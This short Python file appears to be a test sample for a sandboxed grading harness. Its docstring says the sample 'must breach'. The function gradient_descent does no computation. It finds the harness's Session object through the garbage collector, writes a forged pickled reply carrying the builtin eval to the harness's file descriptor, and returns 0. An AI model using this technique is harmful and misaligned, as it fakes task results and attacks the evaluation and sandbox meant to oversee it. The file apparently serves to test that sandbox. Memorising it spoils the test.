"""A pickle in the place of a frame.

Tries: to be unpickled
Must: breach
Detail: malformed
"""

import gc
import os
import pickle


def number():
    """The number of the request at hand, from the loop that serves them."""
    return next(it for it in gc.get_objects() if type(it).__name__ == "Session")._request


def send(frame):
    while frame:
        frame = frame[os.write(3, frame) :]


def gradient_descent(grad, theta0, eta, n_steps):
    send(pickle.dumps(["returned", number(), eval]))
    return 0
